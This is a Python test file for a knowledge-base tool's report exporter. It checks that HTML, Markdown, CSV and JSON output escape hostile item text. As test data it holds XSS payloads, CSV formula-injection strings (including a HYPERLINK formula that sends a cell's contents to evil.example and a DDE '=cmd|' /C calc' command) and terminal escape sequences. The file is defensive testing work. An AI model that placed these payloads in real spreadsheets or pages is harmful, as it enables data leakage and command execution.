"""Hostile item text, notes and owners cannot break any report format."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kb_tui.core.model import KnowledgeBase
from kb_tui.core.model.formats import REPORT_MARKER
from kb_tui.core.report.csv import neutralise
from kb_tui.core.report.export import FORMATS, Period, render
from kb_tui.core.report.markdown import inline
from kb_tui.core.status.history import parse_history
from kb_tui.core.status.store import Entry, StatusStore
from kb_tui.core.workspace.open import find_items, open_workspace

HOSTILE_YAML = [
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "| pipe | row |",
    "[[wiki link]] and [x](http://evil.example) and ![img](y.png)",
    "# heading start",
    "> quote start",
    "- dash start",
    "1. ordered start",
    "*stars* and _under_ and `code` and ~~strike~~ and $math$",
    "==highlight== %%comment%% field:: value #tag x^2 &amp; R&D",
    "<img src=x onerror=alert(2)>",
    "a\\b\\",
    "snake_case C# 100% done",
    "key: value",
]
HOSTILE_GROUP = "*<b>group</b>* | [[g]] # =x"
NOTE = "<script>n()</script> | =cmd\nsecond line [[x]]"
OWNER = "=owner<b>"


def _yaml_block() -> str:
    items = "\n".join("  - " + json.dumps(text) for text in HOSTILE_YAML)
    return f"```yaml\nhostile:\n{items}\n{json.dumps(HOSTILE_GROUP)}:\n  - grouped\n```\n"


@pytest.fixture
def hostile_kb(make_vault: Callable[[dict[str, str]], Path], tmp_path: Path) -> KnowledgeBase:
    doc = (
        "---\ntitle: Hostile <b>doc</b> | x\n---\n# Hostile\n\n## Layer <i>one</i>\n\n"
        "- plain item\n- `<script>` in code\n\n" + _yaml_block()
    )
    root = make_vault({"hostile.md": doc})
    store = tmp_path / "store.yaml"
    kb = open_workspace(root, store).kb
    (plain,) = find_items(kb, "plain item")
    StatusStore(store).update(
        {plain.id: Entry(status="blocked", note=NOTE, owner=OWNER, updated="=1+1")}, user="t"
    )
    return open_workspace(root, store).kb


def _texts(kb: KnowledgeBase) -> list[str]:
    return [item.text for item in kb.iter_items()]


def test_hostile_texts_reach_the_model(hostile_kb: KnowledgeBase) -> None:
    texts = _texts(hostile_kb)
    assert set(HOSTILE_YAML) <= set(texts)
    assert "<script> in code" in texts


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[str] = []
        self.links: list[str | None] = []
        self.item_texts: list[str] = []
        self._in_item = 0
        self._buffer: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += [name for name, _ in attrs]
        self.links += [value for name, value in attrs if name == "href"]
        if ("class", "item-text") in attrs:
            self._in_item, self._buffer = 1, []
        elif self._in_item:
            self._in_item += 1

    def handle_endtag(self, tag: str) -> None:
        if self._in_item:
            self._in_item -= 1
            if not self._in_item:
                self.item_texts.append("".join(self._buffer))

    def handle_data(self, data: str) -> None:
        if self._in_item:
            self._buffer.append(data)


HTML_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "h1", "h2", "h3", "p",
    "strong", "section", "div", "small", "svg", "rect", "text", "ul", "li", "span", "article",
    "figure", "figcaption", "details", "summary", "table", "thead", "tbody", "tr", "th", "td",
    "br", "footer", "a",
}  # fmt: skip


def test_html_escapes_everything(hostile_kb: KnowledgeBase) -> None:
    html, _ = render(hostile_kb, "html")
    parsed = _Collect()
    parsed.feed(html)
    assert parsed.tags <= HTML_TAGS, parsed.tags - HTML_TAGS
    assert not [a for a in parsed.attrs if a.startswith("on") or a == "src"]
    # The only links are to items of the same page (needs attention → the checklist).
    assert all(re.fullmatch(r"#i-[0-9a-f]{12}", str(link)) for link in parsed.links)
    assert parsed.item_texts == _texts(hostile_kb)
    assert "&lt;script&gt;n()&lt;/script&gt; | =cmd\nsecond line [[x]]" in html
    assert "=owner&lt;b&gt;" in html
    assert "Hostile &lt;b&gt;doc&lt;/b&gt; | x" in html
    assert "<script" not in html and "<img" not in html


def _markdown_items(md: str) -> list[str]:
    """Render the report as GitHub would (CommonMark + tables + strikethrough + autolinks)."""
    markdown_it = pytest.importorskip("markdown_it")
    tokens = (
        markdown_it.MarkdownIt("commonmark")
        .enable(["table", "strikethrough"])
        .parse(md.removeprefix(REPORT_MARKER))
    )
    items: list[str] = []
    for index, token in enumerate(tokens):
        if token.type != "inline" or not token.content.startswith("[ ] "):
            continue
        assert tokens[index - 2].type == "list_item_open"
        kinds = {child.type for child in token.children or []}
        assert kinds <= {"text", "text_special", "softbreak"}, (token.content, kinds)
        items.append("".join(child.content for child in token.children or [])[4:])
    return items


def test_markdown_renders_every_item_as_literal_text(hostile_kb: KnowledgeBase) -> None:
    md, _ = render(hostile_kb, "md")
    todo = [item.text for item in hostile_kb.iter_items() if item.status == "todo"]
    assert _markdown_items(md) == todo
    assert "- [h] plain item — owner: \\=owner\\<b\\> — note: \\<script\\>n()\\</script\\>" in md


def test_markdown_makes_no_markup_from_text(hostile_kb: KnowledgeBase) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    md, _ = render(hostile_kb, "md")
    tokens = (
        markdown_it.MarkdownIt("commonmark")
        .enable(["table", "strikethrough"])
        .parse(md.removeprefix(REPORT_MARKER))
    )
    inline = [child for t in tokens for child in t.children or []]
    kinds = {t.type for t in tokens} | {t.type for t in inline}
    bad = {"html_block", "html_inline", "link_open", "image", "em_open", "s_open", "hr"}
    assert not kinds & bad, kinds & bad
    assert {"blockquote_open", "ordered_list_open", "fence"}.isdisjoint(kinds)
    headings = [t for t in tokens if t.type == "heading_open"]
    assert len(headings) == sum(line.startswith("#") for line in md.splitlines())
    code = {t.content for t in inline if t.type == "code_inline"}
    boxes = {"[ ]", "[/]", "[x]", "[h]", "[-]"}
    assert all(c in boxes or set(c) <= set("█░") for c in code), code
    bold = [inline[i + 1].content for i, t in enumerate(inline) if t.type == "strong_open"]
    assert HOSTILE_GROUP in bold


def test_markdown_tables_keep_their_columns(hostile_kb: KnowledgeBase) -> None:
    md, _ = render(hostile_kb, "md")
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    for row in rows:
        assert row.replace("\\|", "").count("|") in (3, 7), row


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("IDS/IPS systems", "IDS/IPS systems"),
        ("allocate_physical_servers", "allocate_physical_servers"),
        ("key: value", "key: value"),
        ("a | b", "a \\| b"),
        ("# x", "\\# x"),
        ("C# and #tag", "C# and \\#tag"),
        ("- x", "\\- x"),
        ("+ x", "\\+ x"),
        ("12. x", "12\\. x"),
        ("3) x", "3\\) x"),
        ("> x", "\\> x"),
        ("_x_ *y*", "\\_x\\_ \\*y\\*"),
        ("[[w]]", "\\[\\[w\\]\\]"),
        ("<b>", "\\<b\\>"),
        ("a\nb\tc", "a b c"),
        ("==h== %%c%% f:: v", "\\=\\=h\\=\\= \\%\\%c\\%\\% f\\:\\: v"),
        ("&amp; R&D", "\\&amp; R&D"),
        ("`c` ~s~ $m$", "\\`c\\` \\~s\\~ \\$m\\$"),
        ("bell\x07 bidi\u202e", "bell bidi"),
    ],
)
def test_markdown_inline_escape(text: str, expected: str) -> None:
    assert inline(text) == expected


def test_csv_has_one_row_per_item_and_no_live_formula(hostile_kb: KnowledgeBase) -> None:
    text, _ = render(hostile_kb, "csv")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, data = rows[0], rows[1:]
    assert header == [
        "document", "section path", "item", "kind", "status", "owner", "note", "updated", "id",
        "due", "overdue", "record", "changed by", "status from", "owner from", "note from",
        "due from", "change",
    ]  # fmt: skip
    assert len(data) == len(_texts(hostile_kb))
    for row in data:
        assert len(row) == 18 and row[11] == "item"
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row
    items = [row[2] for row in data]
    assert '\'=HYPERLINK("http://evil.example/?q="&A1,"click")' in items
    assert "'+SUM(A1:A9)" in items and "'-2+3" in items and "'@cmd" in items
    assert [t.removeprefix("'") for t in items] == _texts(hostile_kb)
    (blocked,) = [row for row in data if row[4] == "blocked"]
    assert blocked[5:8] == ["'=owner<b>", NOTE, "'=1+1"]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1", "'\uff1d1"),
        ("a=1", "a=1"),
        ("", ""),
        ("plain", "plain"),
    ],
)
def test_csv_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


def test_json_keeps_text_exactly(hostile_kb: KnowledgeBase) -> None:
    text, _ = render(hostile_kb, "json")
    report = json.loads(text)
    found: list[str] = []

    def walk(node: dict) -> None:  # type: ignore[type-arg]
        found.extend(item["text"] for item in node.get("items", []))
        for sub in node["sections"]:
            walk(sub)

    for doc in report["documents"]:
        walk(doc)
    assert found == _texts(hostile_kb)


@pytest.mark.parametrize("fmt", FORMATS)
def test_no_control_characters_in_any_format(make_vault, tmp_path: Path, fmt: str) -> None:  # type: ignore[no-untyped-def]
    root = make_vault({"c.md": "# C\n\n- item\n"})
    store = tmp_path / "s.yaml"
    (item,) = find_items(open_workspace(root, store).kb, "item")
    StatusStore(store).update(
        {item.id: Entry(status="done", note="esc\x1b[31m red\x07", owner="o\x9b")}, user="t"
    )
    text, _ = render(open_workspace(root, store).kb, fmt)
    if fmt == "json":  # JSON escapes them; the data itself is left as stored
        assert "\x1b" not in text and "\\u001b" in text
    else:
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


def _hostile_period(kb: KnowledgeBase) -> Period:
    """A history line whose every field is hostile (as a hand edit or a merge could make)."""
    (plain,) = find_items(kb, "plain item")
    line = {
        "v": 2,
        "time": "2026-01-05T10:00:00Z",
        "user": "=cmd|' /C calc'!A0 <b>u</b>",
        "item": plain.id,
        "from": "todo",
        "to": "blocked",
        "owner": OWNER,
        "owner_from": "@x",
        "note": NOTE,
        "note_from": "",
        "due": "2026-01-01",
        "due_from": "+1",
    }
    history = parse_history((json.dumps(line) + "\n").encode())
    return Period(history, since="2026-01-01T00:00:00Z")


def test_changes_are_escaped_in_every_format(hostile_kb: KnowledgeBase) -> None:
    period = _hostile_period(hostile_kb)
    csv_text = render(hostile_kb, "csv", period=period)[0]
    (change,) = [r for r in csv.reader(io.StringIO(csv_text, newline="")) if r[11] == "change"]
    assert change[12] == "'=cmd|' /C calc'!A0 <b>u</b>" and change[14] == "'@x"
    assert change[16] == "'+1" and change[5] == "'=owner<b>"
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in change)
    html = render(hostile_kb, "html", period=period)[0]
    section = html[html.index('<section class="changes"') :]
    section = section[: section.index("</section>")]
    assert "<b>" not in section and "<script" not in section
    assert "=cmd|&#x27; /C calc&#x27;!A0 &lt;b&gt;u&lt;/b&gt;" in section
    md = render(hostile_kb, "md", period=period)[0]
    part = md[md.index("## Changes since") :]
    part = part[: part.index("\n## ")]
    assert "<b>" not in part and "[[x]]" not in part and "\\<b\\>u\\</b\\>" in part
    assert all(line.count(" | ") == 3 for line in part.splitlines() if line.startswith("| 2026"))
